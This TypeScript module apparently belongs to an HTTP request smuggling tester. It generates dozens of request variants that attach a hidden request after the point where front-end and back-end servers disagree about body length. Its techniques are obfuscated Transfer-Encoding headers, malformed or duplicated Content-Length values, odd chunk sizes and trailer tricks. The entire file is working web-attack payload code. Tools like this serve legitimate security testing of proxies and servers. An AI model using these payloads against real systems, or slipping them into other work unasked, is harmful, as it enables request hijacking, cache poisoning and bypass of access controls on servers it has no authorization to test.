import { type Carrier, chunk, END, head, hex, LAST, type Trick } from './smuggling-written.ts';

/** Framed as chunks by one reader, by length by another; the hidden request stands where they part. */
const framed = (...headers: string[]): Trick['write'][] => [
  (carrier, hidden) => `${head(carrier, ...headers, `Content-Length: ${LAST.length}`)}${END}${LAST}${hidden}`,
  (carrier, hidden) =>
    `${head(carrier, `Content-Length: ${LAST.length + hidden.length}`, ...headers)}${END}${LAST}${hidden}`,
  (carrier, hidden) => `${head(carrier, ...headers)}${END}${chunk(carrier.body)}${LAST}${hidden}`,
];

const CODINGS = [
  ...[
    'Transfer-Encoding: chunked',
    'transfer-encoding:chunked',
    'TRANSFER-ENCODING: CHUNKED',
    'Transfer-Encoding : chunked',
    ' Transfer-Encoding: chunked',
  ],
  ...[
    'Transfer-Encoding:\tchunked',
    'Transfer-Encoding: chunked ',
    'Transfer-Encoding: \x0bchunked',
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding: chunked, identity',
  ],
  ...[
    'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: chunked, chunked',
    'Transfer-Encoding: gzip, chunked',
    'Transfer-Encoding: "chunked"',
    'Transfer-Encoding: chunked;q=1',
  ],
  ...[
    'Transfer-Encoding: identity',
    'Transfer-Encoding:',
    'Transfer-Encoding:\r\n chunked',
    'Transfer\x00-Encoding: chunked',
    'Transfer_Encoding: chunked',
    'X: y\nTransfer-Encoding: chunked',
    'X: y\rTransfer-Encoding: chunked',
  ],
];

const LENGTHS = [
  '+N',
  '-N',
  '0xN',
  'N, N',
  'N N',
  'N;',
  '0N',
  ' N ',
  'N\x0b',
  'N\x00',
  'N.0',
  'Ne0',
  '',
  '"N"',
  '9999999999999999999999',
  'N\r\n N',
  'N\nX: y',
];

const CHUNKS = [
  ...[
    'N;a=b',
    'N ;a',
    'N;\n',
    'N;a="\r\n"',
    '0xN',
    '+N',
    '-N',
    ' N',
    'N ',
    '\tN',
    '00000000N',
    '10000000000000000N',
    'N\x00',
    'N,',
    'n/a',
    'N\x0b',
    '',
  ],
];

/** What is odd about where a body ends. */
export const FRAMING: Trick[] = [
  ...CODINGS.flatMap((coding) => framed(coding).map((write, at) => ({ name: `${coding} (${at})`, write }))),
  ...CODINGS.slice(0, 12).map((coding) => ({
    name: `two codings, the second ${coding}`,
    write: (carrier: Carrier, hidden: string) =>
      `${head(carrier, 'Transfer-Encoding: chunked', coding)}${END}${chunk(carrier.body)}${LAST}${hidden}`,
  })),
  ...LENGTHS.map((length) => ({
    name: `Content-Length ${length}`,
    write: ({ body, ...carrier }: Carrier, hidden: string) =>
      `${head({ ...carrier, body }, `Content-Length: ${length.replaceAll('N', String(body.length))}`)}${END}${body}${hidden}`,
  })),
  ...[0, 1].map((order) => ({
    name: `two lengths (${order})`,
    write: (carrier: Carrier, hidden: string) => {
      const [one, two] = [carrier.body.length, carrier.body.length + hidden.length];
      const lengths = order === 0 ? [one, two] : [two, one];
      return `${head(carrier, ...lengths.map((length) => `Content-Length: ${length}`))}${END}${carrier.body}${hidden}`;
    },
  })),
  ...CHUNKS.map((size) => ({
    name: `chunk size ${JSON.stringify(size)}`,
    write: (carrier: Carrier, hidden: string) =>
      `${head(carrier, 'Transfer-Encoding: chunked')}${END}${size.replaceAll('N', hex(carrier.body))}\r\n${carrier.body}\r\n${LAST}${hidden}`,
  })),
  ...[
    'Content-Length: 9',
    'Authorization: Bearer x',
    'Host: other',
    'Transfer-Encoding: chunked',
    'X: y',
    ' folded',
    'no colon',
  ].map((trailer) => ({
    name: `trailer ${trailer}`,
    write: (carrier: Carrier, hidden: string) =>
      `${head(carrier, 'Transfer-Encoding: chunked', 'Trailer: X')}${END}${chunk(carrier.body)}0\r\n${trailer}${END}${hidden}`,
  })),
];
